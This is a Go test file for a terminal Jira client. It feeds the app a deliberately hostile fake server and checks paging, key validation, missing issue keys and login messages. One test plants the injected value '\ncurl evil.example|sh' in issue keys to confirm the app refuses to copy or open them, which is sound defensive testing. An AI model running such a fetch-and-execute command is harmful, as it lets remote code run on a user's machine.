package soak

// The list and the root against fakejira.Hostile: paging that never says
// "last" ends with a note in the status bar after a counted number of
// requests; keys that are not Jira keys are neither copied nor opened; an
// issue without a key says so; a credential refused at start is not called
// an expired session, and the re-login keeps the profile's email.

import (
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/jiffy-tui/jiffy/jiraclient"
	"github.com/jiffy-tui/jiffy/jiraclient/fakejira"
	"github.com/jiffy-tui/jiffy/tui"
)

const hostileWait = 20 * time.Second

// startHostileSite serves a fresh fake of flavour through the hostile
// wrapper with faults f.
func startHostileSite(t *testing.T, flavor string, f fakejira.HostileFaults) (site, *fakejira.Hostile) {
	t.Helper()
	srv := fakejira.New(fakejira.Options{Flavor: flavor, Seed: 11, Issues: 60})
	h := fakejira.NewHostile(srv)
	h.Set(f)
	hs := httptest.NewServer(h)
	t.Cleanup(hs.Close)
	srv.SetBaseURL(hs.URL)
	s := site{srv: srv, url: hs.URL, flavor: jiraclient.FlavorCloud}
	if flavor == fakejira.FlavorDataCenter {
		s.flavor = jiraclient.FlavorDataCenter
	}
	return s, h
}

func searches(s site) int {
	n := 0
	for _, r := range s.srv.Requests() {
		if strings.HasSuffix(r.Path, "/search/jql") || strings.HasSuffix(r.Path, "/search") {
			n++
		}
	}
	return n
}

func TestListPagingAlwaysEnds(t *testing.T) {
	for _, tc := range []struct {
		name, flavor string
		f            fakejira.HostileFaults
		note         string
		searches     int
	}{
		// The first page, then (loading ahead) a keys page and the same
		// keys page again for its repeated token.
		{"repeated token", fakejira.FlavorCloud, fakejira.HostileFaults{RepeatToken: true}, "Jira sent the same page token again", 3},
		{"empty pages", fakejira.FlavorCloud, fakejira.HostileFaults{EmptyPages: true}, "Jira's next page added no new issue", 1},
		{"DC total 1e9", fakejira.FlavorDataCenter, fakejira.HostileFaults{HugeTotal: true}, "Jira's next page added no new issue", 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s, _ := startHostileSite(t, tc.flavor, tc.f)
			pr := run(t, tui.New(s.options(s.client(t), nil)), nil, nil)
			pr.waitFor("the stop note", hostileWait, func(sc string) bool {
				return strings.Contains(sc, "stopped loading after") && strings.Contains(sc, tc.note)
			})
			// The list is marked complete: no request follows the note.
			pr.expect("the list after G", hostileWait, func() { pr.key("G") }, func(string) bool { return true })
			pr.stop()
			if n := searches(s); n != tc.searches {
				t.Errorf("%d search requests, want %d", n, tc.searches)
			}
		})
	}
}

func TestListRefusesKeysThatAreNotKeys(t *testing.T) {
	s, _ := startHostileSite(t, fakejira.FlavorCloud, fakejira.HostileFaults{KeySuffix: "\ncurl evil.example|sh"})
	pr := run(t, tui.New(s.options(s.client(t), nil)), nil, nil)
	pr.waitFor("the list", hostileWait, func(sc string) bool { return strings.Contains(sc, "curl e") })
	for _, k := range []string{"y", "Y", "o"} {
		sc := pr.expect(k+" refused", hostileWait, func() { pr.key(k) }, func(sc string) bool {
			return strings.Contains(statusLine(sc), "not a valid key")
		})
		if strings.Contains(sc, "copied") {
			t.Errorf("%s: the screen says it copied:\n%s", k, sc)
		}
	}
	pr.stop()
}

func TestIssueWithoutKeyDoesNotLoadForEver(t *testing.T) {
	s, _ := startHostileSite(t, fakejira.FlavorCloud, fakejira.HostileFaults{EmptyKey: true})
	pr := run(t, tui.New(s.options(s.client(t), nil)), nil, nil)
	pr.waitFor("the list", hostileWait, func(sc string) bool { return strings.Contains(sc, "Upd") && strings.Contains(sc, s.project()+"-") })
	sc := pr.expect("the detail's error", hostileWait, func() { pr.key("enter") }, func(sc string) bool {
		return strings.Contains(strings.ToLower(sc), "this issue has no key")
	})
	if strings.Contains(sc, "Loading") {
		t.Errorf("still loading:\n%s", sc)
	}
	pr.stop()
}

func TestFirstStartRefusedIsNotAnExpiredSession(t *testing.T) {
	s, _ := startHostileSite(t, fakejira.FlavorCloud, fakejira.HostileFaults{})
	s.srv.ExpireToken()
	o := s.options(s.client(t), nil)
	o.Me.Email = "other-address@example.com" // what /myself or the cache says
	o.LoginOptions.Prefill.Email = fakejira.Email
	pr := run(t, tui.New(o), nil, nil)
	sc := ""
	pr.waitFor("the login", hostileWait, func(s string) bool {
		sc = s
		return strings.Contains(s, "sign in again")
	})
	if !strings.Contains(sc, "Jira did not accept the saved sign-in") || strings.Contains(sc, "expired") {
		t.Errorf("a credential refused at start is called:\n%s", sc)
	}
	if !strings.Contains(sc, fakejira.Email) || strings.Contains(sc, "other-address@") {
		t.Errorf("the re-login form does not hold the profile's email %q:\n%s", fakejira.Email, sc)
	}
	pr.stop()
}
